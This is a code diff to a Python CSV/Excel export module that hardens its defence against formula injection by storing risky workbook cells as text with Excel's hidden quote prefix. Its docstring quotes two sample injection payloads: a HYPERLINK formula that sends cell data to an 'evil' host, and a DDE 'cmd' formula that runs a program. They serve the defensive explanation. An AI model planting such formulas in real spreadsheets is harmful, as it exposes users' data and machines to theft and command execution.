@@ -3,7 +3,8 @@
 Uploaded files carry text written by strangers (captions, comments, handles). A cell such as
 `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0` runs as a formula when a client opens our CSV or
 workbook in Excel, LibreOffice or Google Sheets. Following OWASP's CSV-injection advice, every text cell
-that a spreadsheet would read as a formula gets a leading single quote, which makes it plain text.
+of a CSV that a spreadsheet would read as a formula gets a leading single quote, which makes it plain text; in a
+workbook such a cell is stored as text with Excel's (hidden) quote prefix.
 """
 from __future__ import annotations
 
@@ -84,8 +85,7 @@ def _excel_value(value: object) -> object:
         # Excel has no time zones; keep the wall-clock time the user saw in the app.
         return value.replace(tzinfo=None)
     if isinstance(value, str):
-        # neutralised again once the characters Excel refuses are gone (what they hid must not become a formula)
-        value = neutralise(ILLEGAL_CHARACTERS_RE.sub("", value))
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
         if len(value) > EXCEL_MAX_CELL_CHARS:
             value = value[:EXCEL_MAX_CELL_CHARS - 1] + "…"
         return value
@@ -155,13 +155,15 @@ def _write_sheet(workbook: Workbook, name: str, table: pd.DataFrame) -> None:
         sheet.column_dimensions[get_column_letter(index + 1)].width = min(max(longest + 2, 8), 60)
     header = []
     for label in table.columns:
-        cell = WriteOnlyCell(sheet, value=_excel_value(label))
+        cell = _text_cell(sheet, _excel_value(str(label)))
         cell.font = bold
         header.append(cell)
     sheet.append(header)
     formats = [_EXCEL_FORMATS.get(columns.kind(label, table.iloc[:, i])) for i, label in enumerate(table.columns)]
 
     def cell(value, number_format):
+        if isinstance(value, str):
+            return _text_cell(sheet, value)
         if number_format is None or not isinstance(value, (int, float)) or isinstance(value, bool):
             return value
         styled = WriteOnlyCell(sheet, value=value)
@@ -169,6 +171,18 @@ def _write_sheet(workbook: Workbook, name: str, table: pd.DataFrame) -> None:
         return styled
     for row in table.itertuples(index=False, name=None):
         sheet.append([cell(_excel_value(v), f) for v, f in zip(row, formats)])
+
+
+def _text_cell(sheet, value: str) -> WriteOnlyCell:
+    """Text stored as text, never as a formula (openpyxl writes a string that starts with '=' as one); a value a
+    spreadsheet would run as a formula gets Excel's quote prefix, hidden, which keeps it text when the cell is
+    edited. (A literal "'" in front, as in a CSV, showed on every such cell: "'-- queries/…", "'=hyperlink(…)".)
+    The test is made once the characters Excel refuses are gone: "\x01=HYPERLINK(…)" would be a live formula."""
+    cell = WriteOnlyCell(sheet, value=value)
+    cell.data_type = "s"
+    if neutralise(value) != value:
+        cell.quotePrefix = True
+    return cell
 
 
 def to_xlsx(sections: list[Section]) -> bytes:
@@ -180,7 +194,7 @@ def to_xlsx(sections: list[Section]) -> bytes:
     workbook = Workbook(write_only=True)
     names = excel_sheet_names([s.title for s in sections], reserved=(ABOUT_SHEET,))
     for name, section in zip(names, sections):
-        _write_sheet(workbook, name, neutralise_frame(section.table))
+        _write_sheet(workbook, name, section.table)
     about = pd.DataFrame({
         "sheet": names,
         "title": [s.title for s in sections],
@@ -188,7 +202,7 @@ def to_xlsx(sections: list[Section]) -> bytes:
         "source": [s.source for s in sections],
         "sql": [s.sql for s in sections],
     }, dtype=object)
-    _write_sheet(workbook, ABOUT_SHEET, neutralise_frame(about))
+    _write_sheet(workbook, ABOUT_SHEET, about)
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
